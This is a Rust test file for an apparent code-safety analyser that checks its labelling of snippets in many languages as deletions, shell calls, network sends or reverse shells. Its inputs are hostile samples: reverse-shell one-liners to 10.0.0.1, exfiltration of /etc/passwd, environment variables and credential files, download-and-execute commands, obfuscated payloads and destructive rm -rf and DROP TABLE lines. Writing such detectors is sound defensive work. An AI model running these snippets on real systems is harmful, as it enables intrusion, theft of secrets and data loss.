//! Code that deletes, overwrites, starts, connects or hides.

use super::super::Lang;
use super::check;

#[test]
fn python_files() {
    check(
        Lang::Python,
        &[
            ("import os; os.remove('/etc/passwd')", &["rm /etc/passwd"]),
            ("import shutil\nshutil.rmtree('/data')", &["rmtree /data"]),
            ("from shutil import rmtree as r\nr('/data')", &["rmtree /data"]),
            ("import os as o, shutil as s; o.unlink('a'); s.rmtree('b')", &["rm a", "rmtree b"]),
            ("from os import *\nremove('x')", &["rm x"]),
            ("p = '/data'\nimport shutil\nshutil.rmtree(p + '/x')", &["rmtree /data/x"]),
            ("import shutil,os\nshutil.rmtree(os.path.join('/srv', 'www'))", &["rmtree /srv/www"]),
            ("import shutil,os\nshutil.rmtree(os.path.expanduser('~/work'))", &["rmtree ~/work"]),
            ("import shutil,os\nshutil.rmtree(os.environ['HOME'])", &["rmtree ~"]),
            ("from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / 'src')", &["rmtree ~/src"]),
            ("from pathlib import Path\nPath('a/b.txt').unlink(missing_ok=True)", &["rm a/b.txt"]),
            ("from pathlib import Path\nfor p in Path('logs').glob('*.log'):\n    p.unlink()", &["rm logs/<*>.log"]),
            ("import glob, os\nfor f in glob.glob('*.tmp'): os.remove(f)", &["rm <*>.tmp"]),
            ("import glob, os\n[os.remove(f) for f in glob.glob('/tmp/*.x')]", &["rm /tmp/<*>.x"]),
            ("import os\nfor d in ['a', 'b']:\n    os.rmdir(d)", &["rm a", "rm b"]),
            ("import os\nfor f in os.listdir('/data'):\n    os.remove(os.path.join('/data', f))", &["rm /data/<*>"]),
            (
                "import os\nfor root, dirs, files in os.walk('/d'):\n  for f in files:\n    os.remove(os.path.join(root, f))",
                &["rm /d/<**>/<*>"],
            ),
            ("import sys, shutil; shutil.rmtree(sys.argv[1])", &["rmtree first"]),
            ("import shutil\nx = f'{base}/cache'\nshutil.rmtree(x)", &["rmtree ?/cache"]),
            ("import shutil\nname='x'\nshutil.rmtree(f'/srv/{name}')", &["rmtree /srv/x"]),
            ("import os\nf = os.remove\nf('x')", &["rm x"]),
            ("import os\nlist(map(os.remove, ['a', 'b']))", &["rm a", "rm b"]),
            ("getattr(__import__('os'), 'rem' + 'ove')('x')", &["rm x"]),
            ("__import__('shutil').rmtree('/x')", &["rmtree /x"]),
            ("import importlib\nimportlib.import_module('os').system('id')", &["sh id"]),
            ("import os\nos.__dict__['system']('id')", &["sh id"]),
            ("globals()['__builtins__'].__import__('os').system('id')", &["sh id"]),
            ("open('/etc/hosts', 'w').write('x')", &["write /etc/hosts"]),
            ("with open('out.json', mode='a') as f:\n    f.write('x')", &["write out.json"]),
            ("from pathlib import Path\nPath('a.txt').write_text('x')", &["write a.txt"]),
            (
                "from pathlib import Path\nimport shutil\nr = Path(__file__).parent.parent\nshutil.rmtree(r / 'build')",
                &["rmtree ?/build"],
            ),
            ("import os\nos.rename('a', 'b')", &["mv a", "write b"]),
            ("import os\nos.truncate('db.sqlite', 0)", &["write db.sqlite"]),
            ("import os\nos.chmod('/etc/shadow', 0o777)", &["chmod /etc/shadow"]),
            ("import os\nos.chdir('/srv')\nimport shutil\nshutil.rmtree('data')", &["rmtree /srv/data"]),
            (
                "def clean(path):\n    import shutil\n    shutil.rmtree(path)\nclean('/var/lib/x')",
                &["rmtree /var/lib/x"],
            ),
            ("import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", &["rmtree /tmp/?"]),
            ("import shutil\nshutil.rmtree('/a' if x else '/b')", &["rmtree /a", "rmtree /b"]),
            (
                "import os, shutil\nclass A:\n  def f(self):\n    self.d = '/q'\n    shutil.rmtree(self.d)",
                &["rmtree /q"],
            ),
        ],
    );
}

#[test]
fn python_processes() {
    check(
        Lang::Python,
        &[
            ("import os; os.system('rm -rf /')", &["sh rm -rf /"]),
            ("import os\nos.system('r'+'m'+' -rf ~')", &["sh rm -rf ~"]),
            ("import os\nos.system(''.join(['r','m',' x']))", &["sh rm x"]),
            ("import os\nos.system(chr(114)+chr(109)+' x')", &["sh rm x"]),
            ("import os\nos.system('x mr'[::-1])", &["sh rm x"]),
            ("import subprocess\nsubprocess.run(['rm', '-rf', 'x'], check=True)", &["run rm|-rf|x"]),
            ("import subprocess as sp\nsp.run('rm -rf x', shell=True)", &["sh rm -rf x"]),
            (
                "from subprocess import Popen, PIPE\nPopen(['git','push','--force'], stdout=PIPE)",
                &["run git|push|--force"],
            ),
            ("import subprocess\nsubprocess.run(['rm','-rf','b'], cwd='/srv')", &["run env|-C|/srv|rm|-rf|b"]),
            ("import subprocess\nsubprocess.check_output('ls {}'.format(d), shell=True)", &["sh ls ?"]),
            ("import subprocess\nsubprocess.run(cmd)", &["hidden subprocess.run"]),
            (
                "import subprocess\ndef run(c):\n    subprocess.run(c, shell=True)\nrun('git status')\nrun('rm -rf x')",
                &["sh git status", "sh rm -rf x"],
            ),
            (
                "import subprocess\nsubprocess.run(['bash'], input='rm -rf /x', text=True)",
                &["sh rm -rf /x", "run bash"],
            ),
            ("import os\nos.execvp('rm', ['rm', '-rf', '/x'])", &["run rm|-rf|/x"]),
            ("import os\nos.execl('/bin/rm', 'rm', '-rf', '/x')", &["run rm|-rf|/x"]),
            ("import os, signal\nos.kill(1, signal.SIGKILL)", &["kill 1"]),
            ("exec(\"import os\\nos.remove('x')\")", &["rm x"]),
            ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgneCcp'))", &["rm x"]),
            ("exec(bytes.fromhex('6f732e72656d6f766528277827 29').decode())", &["rm x"]),
            ("import codecs\nexec(codecs.decode(\"bf.erzbir('k')\", 'rot13'))", &["rm x"]),
            ("eval(compile(\"__import__('os').system('id')\", '<s>', 'exec'))", &["sh id"]),
            ("eval(\"exec(\\\"import os;os.remove('x')\\\")\")", &["rm x"]),
            ("exec(open('setup.py').read())", &["read setup.py", "run python3|setup.py"]),
            ("import os\nt = lambda c: os.system(c)\nt('id')", &["hidden os.system"]),
            ("import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()", &["sh id"]),
            ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", &["sh id"]),
            ("import ctypes\nctypes.CDLL(None).system(b'rm -rf /')", &["sh rm -rf /"]),
            (
                "from django.core.management import call_command\ncall_command('flush', interactive=False)",
                &["run python|manage.py|flush"],
            ),
        ],
    );
}

#[test]
fn python_network_and_data() {
    check(
        Lang::Python,
        &[
            ("import requests\nrequests.get('https://x.io/a')", &["net https://x.io/a"]),
            (
                "import requests\nrequests.post('https://x.io', data=open('/etc/passwd').read())",
                &["read /etc/passwd", "send https://x.io"],
            ),
            ("import urllib.request\nurllib.request.urlopen('http://h/p')", &["net http://h/p"]),
            ("import urllib.request as u\nexec(u.urlopen('http://h/p').read())", &["net http://h/p", "opaque exec"]),
            (
                "import requests, pickle\npickle.loads(requests.get('http://h').content)",
                &["net http://h", "opaque pickle.loads"],
            ),
            ("import os\nfor k in sorted(os.environ): print(k, os.environ[k])", &["env"]),
            ("import os, json\nprint(json.dumps(dict(os.environ)))", &["env"]),
            ("import os\nfor k, v in os.environ.items():\n    print(k, v)", &["env"]),
            ("import os\nprint(os.environ['API_KEY'])", &["env API_KEY"]),
            ("import os\nprint(os.getenv('TOKEN'))", &["env TOKEN"]),
            ("import os, requests\nrequests.post('http://e', json=dict(os.environ))", &["env", "send http://e"]),
            ("print(open('/root/.ssh/id_rsa').read())", &["read /root/.ssh/id_rsa"]),
            (
                "from pathlib import Path\nprint((Path.home()/'.aws'/'credentials').read_text())",
                &["read ~/.aws/credentials"],
            ),
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")",
                &["net 10.0.0.1", "reverse-shell", "sh /bin/sh"],
            ),
            ("import sqlite3\nsqlite3.connect('a.db').execute('DROP TABLE users')", &["sql DROP TABLE users"]),
            ("cur.execute(\"DELETE FROM t\")", &["sql DELETE FROM t"]),
            ("cur.execute(f'DELETE FROM {t}')", &["sql DELETE FROM ?"]),
            ("with engine.begin() as c: c.execute(text('TRUNCATE a'))", &["sql TRUNCATE a"]),
            ("User.objects.all().delete()", &["sql DELETE FROM User"]),
            ("import redis\nredis.Redis().flushall()", &["run redis-cli|FLUSHALL"]),
            (
                "from pymongo import MongoClient\nMongoClient().drop_database('prod')",
                &["run mongosh|--eval|db.dropDatabase()|prod"],
            ),
            ("import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", &["run aws|s3|delete-bucket|b"]),
            ("import smtplib\ns = smtplib.SMTP('mail.x')\ns.sendmail('a', 'b', 'c')", &["send mail.x"]),
        ],
    );
}

#[test]
fn python_hidden() {
    check(
        Lang::Python,
        &[
            ("eval(input())", &["opaque eval"]),
            ("exec(code)", &["opaque exec"]),
            ("import os\nwhile True: os.fork()", &["opaque processes without end"]),
            ("(1).__class__.__mro__[1].__subclasses__()", &["opaque __subclasses__"]),
            ("import marshal\nexec(marshal.loads(x))", &["opaque exec"]),
            ("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))", &["opaque exec"]),
            ("__import__(name).system('id')", &["opaque __import__"]),
            ("import os\ngetattr(os, name)('x')", &["opaque getattr"]),
            ("().__class__.__base__.__subclasses__()[1]", &["opaque __subclasses__"]),
            ("__WARDSH_UNKNOWN__", &["opaque text inserted at run time"]),
            ("import os\n__WARDSH_UNKNOWN__\nprint(1)", &["opaque text inserted at run time"]),
            ("import shutil\nshutil.rmtree('__WARDSH_UNKNOWN__/x')", &["rmtree ?/x"]),
        ],
    );
}

#[test]
fn javascript() {
    check(
        Lang::JavaScript,
        &[
            ("require('fs').rmSync('/data',{recursive:true,force:true})", &["rmtree /data"]),
            ("require('fs').rmSync('a.txt')", &["rm a.txt"]),
            ("const fs = require('node:fs'); fs.unlinkSync('x')", &["rm x"]),
            ("import fs from 'fs'; fs.unlinkSync(`x`)", &["rm x"]),
            ("import { rm as r } from 'fs/promises'; await r('/d', { recursive: true })", &["rmtree /d"]),
            ("import * as f from \"fs\"\nf.rmdirSync('d')", &["rm d"]),
            ("const {execSync: x} = require('child_process'); x('rm -rf /')", &["sh rm -rf /"]),
            ("require('child_process').spawn('rm', ['-rf', 'x'])", &["run rm|-rf|x"]),
            ("const cp=require('child_process');cp.spawnSync('rm -rf x',{shell:true})", &["sh rm -rf x"]),
            ("require('child_process').execFileSync('git', ['push', '-f'])", &["run git|push|-f"]),
            ("process.mainModule.require('child_process').exec('id')", &["sh id"]),
            ("process['mainModule']['require']('child_process')['exec']('id')", &["sh id"]),
            ("import('fs').then(f => f.rmSync('x'))", &["rm x"]),
            ("['a','b'].forEach(f => require('fs').unlinkSync(f))", &["rm a", "rm b"]),
            ("const fs=require('fs'); for (const f of ['a','b']) fs.unlinkSync(f)", &["rm a", "rm b"]),
            ("require('fs').readdirSync('/d').forEach(f => require('fs').unlinkSync('/d/' + f))", &["rm /d/<*>"]),
            ("const d = '/d'; require('fs').rmSync(`${d}/x`, {recursive: true})", &["rmtree /d/x"]),
            (
                "require('fs').rmSync(require('path').join(require('os').homedir(), 'x'), {recursive:true})",
                &["rmtree ~/x"],
            ),
            ("require('fs').rmSync(process.env.HOME + '/x')", &["rm ~/x"]),
            ("require('fs').rmSync(process.argv[2])", &["rm first"]),
            ("eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk=','base64').toString())", &["rm x"]),
            ("eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk='))", &["rm x"]),
            ("new Function('require(\"fs\").unlinkSync(\"x\")')()", &["rm x"]),
            ("eval(x)", &["opaque eval"]),
            ("new Function(body)", &["opaque Function"]),
            ("fetch('http://h/x').then(r => r.text()).then(t => eval(t))", &["net http://h/x", "opaque eval"]),
            ("require('vm').runInNewContext(code)", &["opaque vm.runInNewContext"]),
            ("fetch('https://e', {method:'POST', body: JSON.stringify(process.env)})", &["env", "send https://e"]),
            ("console.log(process.env)", &["env"]),
            ("Object.keys(process.env).forEach(k => console.log(k, process.env[k]))", &["env"]),
            ("console.log(process.env.SECRET)", &["env SECRET"]),
            ("const axios = require('axios'); axios.post('https://e', {a: 1})", &["send https://e"]),
            ("require('https').get('https://e/x')", &["net https://e/x"]),
            (
                "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){c.pipe(sh.stdin)})})()",
                &["net 10.0.0.1", "reverse-shell", "run /bin/sh"],
            ),
            ("process.kill(123)", &["kill 123"]),
            ("Deno.removeSync('/x', {recursive: true})", &["rmtree /x"]),
            ("new Deno.Command('rm', {args: ['-rf', 'x']}).output()", &["run rm|-rf|x"]),
            ("import { $ } from 'bun'; await $`rm -rf ${d}`", &["sh rm -rf ?"]),
            ("Bun.spawn(['rm', 'x'])", &["run rm|x"]),
            ("const { rimraf } = require('rimraf'); rimraf('dist')", &["rmtree dist"]),
            ("const run = (c) => require('child_process').execSync(c); run('git gc')", &["sh git gc"]),
            ("prisma.$executeRawUnsafe('DROP TABLE a')", &["sql DROP TABLE a"]),
            ("db.query('DELETE FROM users')", &["sql DELETE FROM users"]),
            (
                "const {promisify}=require('util'); const e=promisify(require('child_process').exec); e('id')",
                &["sh id"],
            ),
            ("require('fs').writeFileSync('package.json', '{}')", &["write package.json"]),
        ],
    );
}

#[test]
fn ruby() {
    check(
        Lang::Ruby,
        &[
            ("require 'fileutils'; FileUtils.rm_rf('/data')", &["rmtree /data"]),
            ("FileUtils.rm_rf '/data'", &["rmtree /data"]),
            ("FileUtils.rm_rf Dir.home", &["rmtree ~"]),
            ("File.delete('a', 'b')", &["rm a", "rm b"]),
            ("Dir.glob('*.log').each { |f| File.delete(f) }", &["rm <*>.log"]),
            ("Dir['*.log'].each do |f|\n  File.delete f\nend", &["rm <*>.log"]),
            ("%w[a b].each { |f| File.unlink(f) }", &["rm a", "rm b"]),
            ("system 'rm -rf x'", &["sh rm -rf x"]),
            ("system('rm', '-rf', 'x')", &["run rm|-rf|x"]),
            ("`rm -rf #{dir}`", &["sh rm -rf ?"]),
            ("puts %x(ls -la)", &["sh ls -la"]),
            ("exec \"rm x\"", &["sh rm x"]),
            ("IO.popen(['rm', 'x'])", &["run rm|x"]),
            ("require 'open3'\nOpen3.capture3('rm x')", &["sh rm x"]),
            ("Kernel.system('id')", &["sh id"]),
            ("send(:system, 'id')", &["sh id"]),
            ("eval(gets)", &["opaque eval"]),
            ("eval 'File.delete(\"x\")'", &["rm x"]),
            ("eval(['RmlsZS5kZWxldGUoIngiKQ=='].pack('H*'))", &["opaque eval"]),
            ("require 'base64'; eval(Base64.decode64('RmlsZS5kZWxldGUoIngiKQ=='))", &["rm x"]),
            ("puts ENV['TOKEN']", &["env TOKEN"]),
            ("puts ENV.to_h", &["env"]),
            ("require 'net/http'; Net::HTTP.get(URI('http://h'))", &["net http://h"]),
            ("Process.kill('KILL', 1)", &["kill 1"]),
            (
                "require 'socket'; s=TCPSocket.new('10.0.0.1',1); exec '/bin/sh -i'",
                &["net 10.0.0.1", "reverse-shell", "sh /bin/sh -i"],
            ),
            ("Pathname.new('x').rmtree", &["rmtree x"]),
            ("File.write('/etc/hosts', '')", &["empty /etc/hosts", "write /etc/hosts"]),
            ("FileUtils.rm_rf(ARGV[0])", &["rmtree first"]),
            ("User.delete_all", &["sql DELETE FROM User"]),
            ("ActiveRecord::Base.connection.execute('TRUNCATE users')", &["sql TRUNCATE users"]),
        ],
    );
}

#[test]
fn perl_and_php() {
    check(
        Lang::Perl,
        &[
            ("unlink glob \"*.log\"", &["rm <*>.log"]),
            ("unlink <*.log>", &["rm <*>.log"]),
            ("unlink $_ for glob('*.o');", &["rm <*>.o"]),
            ("unlink for <a/*.o>;", &["rm a/<*>.o"]),
            ("my @f = glob('*.bak'); unlink @f;", &["rm <*>.bak"]),
            ("foreach my $f (@ARGV) { unlink $f or die; }", &["rm first", "rm second"]),
            ("unlink 'a', 'b'", &["rm a", "rm b"]),
            ("use File::Path; rmtree('/data');", &["rmtree /data"]),
            ("use File::Path qw(remove_tree); remove_tree(\"$ENV{HOME}/x\");", &["rmtree ~/x"]),
            ("File::Path::remove_tree('/d')", &["rmtree /d"]),
            ("system(\"rm -rf /\")", &["sh rm -rf /"]),
            ("system 'rm', '-rf', 'x';", &["run rm|-rf|x"]),
            ("my $c = 'rm -rf'; system(\"$c /x\");", &["sh rm -rf /x"]),
            ("print `rm x`", &["sh rm x"]),
            ("my $o = qx{rm -rf x};", &["sh rm -rf x"]),
            ("exec 'rm x'", &["sh rm x"]),
            ("open(F, 'rm x |')", &["sh rm x"]),
            ("open(my $f, '-|', 'rm', 'x')", &["run rm|x"]),
            ("open(my $f, '>', '/etc/hosts') or die", &["write /etc/hosts"]),
            ("eval $code;", &["opaque eval"]),
            ("eval pack('H*', '756e6c696e6b2027782700');", &["rm x"]),
            ("use MIME::Base64; eval decode_base64('dW5saW5rICd4Jw==');", &["rm x"]),
            ("s/x/unlink 'y'/e", &["rm y"]),
            ("rename 'a', 'b';", &["mv a", "write b"]),
            ("kill 9, 1;", &["kill 1"]),
            ("system($ARGV[0])", &["sh first"]),
            ("map { unlink $_ } glob('*.c')", &["rm <*>.c"]),
            ("foreach (sort keys %ENV) { print \"$_=$ENV{$_}\\n\" }", &["env"]),
            (
                "use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
                &["reverse-shell", "sh /bin/sh -i"],
            ),
        ],
    );
    check(
        Lang::Php,
        &[
            ("unlink('x');", &["rm x"]),
            ("array_map('unlink', glob('*.log'));", &["rm <*>.log"]),
            ("<?php system('rm -rf /');", &["sh rm -rf /"]),
            ("$f = 'sys' . 'tem'; $f('id');", &["sh id"]),
            ("echo shell_exec(\"rm $x\");", &["sh rm ?"]),
            ("echo `id`;", &["sh id"]),
            ("eval(base64_decode('dW5saW5rKCd4Jyk7'));", &["rm x"]),
            ("eval($_GET['c']);", &["opaque eval"]),
            ("eval(gzinflate(base64_decode('xx')));", &["opaque eval"]),
            ("file_put_contents('/etc/hosts', '');", &["empty /etc/hosts", "write /etc/hosts"]),
            ("system($argv[1]);", &["sh first"]),
            ("foreach (glob('a/*') as $f) unlink($f);", &["rm a/<*>"]),
            (
                "$s=fsockopen('10.0.0.1',1);exec('/bin/sh -i <&3 >&3 2>&3');",
                &["net 10.0.0.1", "reverse-shell", "sh /bin/sh -i <&3 >&3 2>&3"],
            ),
            ("$pdo->exec('DROP TABLE x');", &["sql DROP TABLE x"]),
            ("DB::table('users')->truncate();", &["sql TRUNCATE users"]),
            ("DB::table('users')->where('id', 3)->delete();", &[]),
            ("call_user_func('system', 'id');", &["sh id"]),
        ],
    );
}

#[test]
fn awk_and_sed() {
    check(
        Lang::Awk,
        &[
            ("BEGIN { system(\"rm -rf /\") }", &["sh rm -rf /"]),
            ("{ system(\"rm \" $1) }", &["sh rm ?"]),
            ("{ system($0) }", &["hidden system"]),
            ("{ print $1 | \"sh\" }", &["hidden print |"]),
            ("{ print \"rm \" $1 | \"/bin/sh\" }", &["sh rm ?"]),
            ("{ print $1 | \"sort\" }", &["sh sort"]),
            ("BEGIN { while ((\"cat /etc/passwd\" | getline l) > 0) print l }", &["sh cat /etc/passwd"]),
            ("BEGIN { \"id\" | getline x; print x }", &["sh id"]),
            ("{ print > \"/etc/hosts\" }", &["write /etc/hosts"]),
            ("{ print $2 > (\"out/\" $1) }", &["write out/?"]),
            ("BEGIN { getline < \"/etc/shadow\" }", &["read /etc/shadow"]),
            ("BEGIN { s = \"/inet/tcp/0/10.0.0.1/99\"; while ((s |& getline c) > 0) print c }", &["net 10.0.0.1"]),
            ("BEGIN { c = \"rm x\"; system(c) }", &["sh rm x"]),
            ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", &["env"]),
        ],
    );
    check(
        Lang::Sed,
        &[
            ("1e rm -rf /", &["sh rm -rf /"]),
            ("e", &["hidden sed e"]),
            ("s/.*/rm x/e", &["sh rm x"]),
            ("s/a/b/ge", &["hidden sed s///e"]),
            ("w /etc/cron.d/x", &["write /etc/cron.d/x"]),
            ("s/a/b/w out.txt", &["write out.txt"]),
            ("/x/r /etc/passwd", &["read /etc/passwd"]),
            ("1!G;h;$!d;e id", &["sh id"]),
        ],
    );
}

#[test]
fn smaller_languages() {
    check(
        Lang::Lua,
        &[
            ("os.execute('rm -rf x')", &["sh rm -rf x"]),
            ("os.remove(\"a\" .. \".txt\")", &["rm a.txt"]),
            ("local h = io.popen([[rm x]])", &["sh rm x"]),
            ("io.open('f', 'w'):write('x')", &["write f"]),
            ("load(x)()", &["opaque load"]),
            ("os.execute 'id'", &["sh id"]),
        ],
    );
    check(
        Lang::R,
        &[
            ("unlink('data', recursive = TRUE)", &["rmtree data"]),
            ("file.remove('a', 'b')", &["rm a", "rm b"]),
            ("system('rm -rf x')", &["sh rm -rf x"]),
            ("system2('rm', c('-rf', 'x'))", &["run rm|-rf|x"]),
            ("eval(parse(text = readline()))", &["opaque eval(parse())"]),
            ("f <- file.path('~', 'x'); unlink(f, recursive=T)", &["rmtree ~/x"]),
            ("do.call('unlink', list('x'))", &["rm x"]),
        ],
    );
    check(
        Lang::Julia,
        &[
            ("rm(\"data\"; recursive=true)", &["rmtree data"]),
            ("rm(joinpath(homedir(), \"x\"), recursive=true, force=true)", &["rmtree ~/x"]),
            ("run(`rm -rf x`)", &["sh rm -rf x"]),
            ("open(\"f\", \"w\") do io\nend", &["write f"]),
        ],
    );
    check(
        Lang::Elixir,
        &[
            ("File.rm_rf!(\"data\")", &["rmtree data"]),
            ("System.cmd(\"rm\", [\"-rf\", \"x\"])", &["run rm|-rf|x"]),
            (":os.cmd('rm x')", &["sh rm x"]),
            ("Repo.delete_all(User)", &["sql DELETE FROM User"]),
        ],
    );
    check(
        Lang::Java,
        &[
            ("new File('x').delete()", &["rm x"]),
            ("new File(\"build\").deleteDir()", &["rmtree build"]),
            ("\"rm -rf x\".execute()", &["sh rm -rf x"]),
            ("['rm', '-rf', 'x'].execute()", &["run rm|-rf|x"]),
            ("Runtime.getRuntime().exec(\"rm x\");", &["sh rm x"]),
            ("new ProcessBuilder(\"rm\", \"x\").start();", &["run rm|x"]),
        ],
    );
    check(
        Lang::Go,
        &[
            ("os.RemoveAll(\"/data\")", &["rmtree /data"]),
            ("exec.Command(\"rm\", \"-rf\", \"x\").Run()", &["run rm|-rf|x"]),
        ],
    );
    check(
        Lang::Tcl,
        &[
            ("exec rm -rf x", &["run rm|-rf|x"]),
            ("file delete -force -- /data", &["rmtree /data"]),
            ("foreach f {a b} { file delete $f }", &["rm ?"]),
            ("set h [exec rm x]", &["run rm|x"]),
            ("open \"|rm x\"", &["sh rm x"]),
            ("spawn ssh host", &["run ssh|host"]),
            ("eval $x", &["opaque eval"]),
        ],
    );
}

#[test]
fn powershell() {
    check(
        Lang::PowerShell,
        &[
            ("Remove-Item -Recurse -Force C:/data", &["rmtree C:/data"]),
            ("rm -r -fo ./x", &["rmtree ./x"]),
            ("del a.txt", &["rm a.txt"]),
            ("Remove-Item -Path 'a b' -Recurse", &["rmtree a b"]),
            ("$p = '/data'; Remove-Item $p -Recurse", &["rmtree /data"]),
            ("Remove-Item $env:USERPROFILE/x -Recurse", &["rmtree ~/x"]),
            ("gci *.log | % { Remove-Item $_.FullName }", &["rm <*>.log"]),
            ("Get-ChildItem *.log | Remove-Item", &["rm <*>.log"]),
            ("Re`move-It`em x", &["rm x"]),
            ("iex (iwr http://h/x).Content", &["net http://h/x", "opaque Invoke-Expression"]),
            ("iwr http://h/x | iex", &["net http://h/x", "opaque Invoke-Expression of a download"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
                &["net http://h/x", "opaque Invoke-Expression"],
            ),
            ("iex 'rm x'", &["rm x"]),
            ("iex ('r' + 'm x')", &["rm x"]),
            ("& ('r'+'m') x", &["rm x"]),
            ("[IO.File]::Delete('x')", &["rm x"]),
            ("[System.IO.Directory]::Delete('x', $true)", &["rmtree x"]),
            ("Stop-Process -Id 4 -Force", &["kill 4"]),
            ("Stop-Process -Name node", &["kill node"]),
            ("Clear-Content a.txt", &["write a.txt"]),
            ("Set-Content -Path a.txt -Value 'x'", &["write a.txt"]),
            ("Stop-Computer -Force", &["run shutdown|-h|now"]),
            ("Clear-Disk -Number 0 -RemoveData", &["run wipefs|-a|/dev/disk"]),
            ("git push --force", &["run git|push|--force"]),
            ("Invoke-RestMethod -Uri http://e -Method Post -Body $x", &["send http://e"]),
            ("if ($x) { Remove-Item y }", &["rm y"]),
            ("Get-ChildItem env:", &["env"]),
            ("$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444)", &["net 10.0.0.1", "reverse-shell"]),
        ],
    );
}

#[test]
fn editors_and_debuggers() {
    check(
        Lang::AppleScript,
        &[
            ("do shell script \"rm -rf ~\"", &["sh rm -rf ~"]),
            ("do shell script \"rm \" & quoted form of p with administrator privileges", &["sh rm ?"]),
            ("tell application \"Finder\" to delete POSIX file \"/x\"", &["rmtree /x"]),
            ("tell application \"Finder\" to empty trash", &["rmtree ~/.Trash"]),
            ("tell app \"Terminal\" to do script \"id\"", &["sh id"]),
        ],
    );
    check(
        Lang::Vim,
        &[
            (":!rm -rf x", &["sh rm -rf x"]),
            ("%!sort", &["sh sort"]),
            ("silent !rm x", &["sh rm x"]),
            ("call system('rm x')", &["sh rm x"]),
            ("call delete('x', 'rf')", &["rmtree x"]),
            ("py3 import os; os.remove('x')", &["rm x"]),
            ("set nu | !id", &["sh id"]),
            ("execute '!rm x'", &["sh rm x"]),
        ],
    );
    check(
        Lang::Gdb,
        &[
            ("shell rm x", &["sh rm x"]),
            ("!rm x", &["sh rm x"]),
            ("python import os; os.system('id')", &["sh id"]),
            ("python\nimport os\nos.remove('x')\nend", &["rm x"]),
            ("call (int)system(\"id\")", &["sh id"]),
            ("run\nbt", &[]),
        ],
    );
}
